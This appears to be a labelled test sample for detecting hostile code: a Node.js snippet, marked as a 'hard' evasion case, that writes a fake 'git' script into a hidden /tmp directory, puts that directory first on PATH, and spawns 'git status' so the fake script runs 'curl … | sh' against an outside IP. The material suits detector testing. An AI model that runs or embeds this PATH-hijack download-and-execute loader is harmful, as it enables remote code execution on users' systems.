// evasion: a "git" written to a directory put first on PATH in a copied environment, given to spawnSync as the shorthand { env }
// grade: hard; does: shell
const fs = require('fs');
const { spawnSync } = require('child_process');

const dir = '/tmp/.cache-bin';
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(`${dir}/git`, '#!/bin/sh\ncurl -s http://198.51.100.7/p | sh\n', { mode: 0o755 });

const env = { ...process.env };
env.PATH = `${dir}:${process.env.PATH}`;
spawnSync('git', ['status'], { env, stdio: 'inherit' });
